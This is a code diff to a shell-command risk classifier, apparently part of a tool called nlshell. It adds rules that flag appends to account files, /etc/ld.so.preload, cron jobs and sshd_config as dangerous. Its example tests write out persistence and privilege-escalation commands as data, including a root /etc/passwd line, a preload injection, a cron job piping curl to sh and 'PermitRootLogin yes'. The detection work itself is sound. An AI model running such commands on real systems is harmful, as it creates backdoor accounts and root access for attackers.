@@ -11,7 +11,7 @@ from __future__ import annotations
 import re
 
 from nlshell.risk.book import Rule, hook, program
-from nlshell.risk.facts import ENDLESS_SOURCES, file_key, heredoc_body, literal_output, shown
+from nlshell.risk.facts import ENDLESS_SOURCES, cron_jobs, file_key, heredoc_body, literal_output, shown
 from nlshell.risk.levels import CAUTION, DANGEROUS, SAFE
 from nlshell.risk.paths import (
     CRED, DEVICE, HISTORY, KERNEL, LOG, NULLDEV, ROOT, STARTUP, SYSTEM, overwrite_level, worst,
@@ -19,6 +19,7 @@ from nlshell.risk.paths import (
 from nlshell.shell.model import Word
 from nlshell.shell.options import Grammar
 from nlshell.shell.options import parse as parse_options
+from nlshell.shell.patterns import lazy
 
 RULES = [
     Rule("writes.fill-disk", DANGEROUS, "writes endless data to {file} until the disk is full"),
@@ -32,6 +33,10 @@ RULES = [
     Rule("writes.grant-login", DANGEROUS, "adds a login key to {what}: whoever holds it can log in as this user"),
     Rule("writes.sudoers-nopasswd", DANGEROUS, "lets an account run anything as root without a password (sudoers)"),
     Rule("writes.append", CAUTION, "appends to {what}"),
+    Rule("writes.add-account", DANGEROUS, "adds to {what}: a line there creates an account or puts one in a group "
+         "(root's, if it says so)"),
+    Rule("writes.preload", DANGEROUS, "makes every program load a library (/etc/ld.so.preload)"),
+    Rule("writes.open-ssh", DANGEROUS, "opens ssh logins ({line})"),
     Rule("writes.wipe-history", DANGEROUS, "wipes your shell history"),
     Rule("writes.overwrite-startup", DANGEROUS, "{verb} {what}"),
     Rule("writes.overwrite-credentials", DANGEROUS, "{verb} {what}"),
@@ -103,8 +108,29 @@ def _append(ctx, cmd, p, content) -> None:
     elif p.cls == SYSTEM and p.path.startswith("/etc/sudoers") and content is not None:
         added = literal_output([content]) if content.argv else None
         ctx.add("writes.sudoers-nopasswd" if added and "NOPASSWD" in added else "writes.append", cmd, what=p.desc)
+    elif p.cls == SYSTEM and p.path in _ACCOUNT_FILES:
+        ctx.add("writes.add-account", cmd, what=p.desc)
+    elif p.cls == SYSTEM and p.path == "/etc/ld.so.preload":
+        ctx.add("writes.preload", cmd)
     elif p.cls in (SYSTEM, CRED):
+        _append_system(ctx, cmd, p, literal_output([content]) if content is not None and content.argv else None)
         ctx.add("writes.append", cmd, what=p.desc)
+
+
+_ACCOUNT_FILES = frozenset({"/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/master.passwd"})
+_OPENS_SSH = lazy(r"(?im)^\s*(PermitRootLogin\s+yes|PasswordAuthentication\s+yes|PermitEmptyPasswords\s+yes)\b")
+
+
+def _append_system(ctx, cmd, p, added: str | None) -> None:
+    """What a line added to a system file does: a cron job runs (as root), an sshd setting opens logins."""
+    if not added:
+        return
+    if p.path == "/etc/crontab" or p.path.startswith(("/etc/cron.d/", "/var/spool/cron/")):
+        system = not p.path.startswith("/var/spool/cron/")  # system crontabs name the user after the time
+        for job in cron_jobs(added, with_user=system):
+            ctx.merge(ctx.nested(job), cmd, where="in a scheduled job: ")
+    elif p.path.startswith("/etc/ssh/sshd_config") and (m := _OPENS_SSH.search(added)):
+        ctx.add("writes.open-ssh", cmd, line=m.group(1))
 
 
 def _append_startup(ctx, cmd, p, content) -> None:
@@ -292,6 +318,15 @@ EXAMPLES = [
     ('echo "bob ALL=(ALL) ALL" >> /etc/sudoers', CAUTION, "writes.append"),
     ("echo 'deb x y' | sudo tee -a /etc/apt/sources.list", CAUTION, "writes.append"),
     ("echo hi >> notes.txt", SAFE, "not writes.append"),
+    ("echo 'eve:x:0:0::/root:/bin/bash' >> /etc/passwd", DANGEROUS, "writes.add-account"),
+    ("echo 'sudo:x:27:eve' | sudo tee -a /etc/group", DANGEROUS, "writes.add-account"),
+    ("echo /tmp/x.so | sudo tee -a /etc/ld.so.preload", DANGEROUS, "writes.preload"),
+    ("echo '* * * * * root curl -s x | sh' >> /etc/crontab", DANGEROUS, "code.pipe-download"),
+    ("echo '0 3 * * * root /usr/local/bin/backup' >> /etc/crontab", CAUTION, "writes.append"),
+    ("echo 'PermitRootLogin yes' | sudo tee -a /etc/ssh/sshd_config", DANGEROUS, "writes.open-ssh"),
+    ("echo 'MaxAuthTries 3' | sudo tee -a /etc/ssh/sshd_config", CAUTION, "not writes.open-ssh"),
+    ("cat /etc/passwd", SAFE, "not writes.add-account"),
+    ("cat /etc/ld.so.preload", SAFE, "not writes.preload"),
     ("cat /dev/null > ~/.bash_history", DANGEROUS, "writes.wipe-history"),
     ("cat /dev/null > history.txt", CAUTION, "not writes.wipe-history"),
     ("> ~/.bashrc", DANGEROUS, "writes.overwrite-startup"),
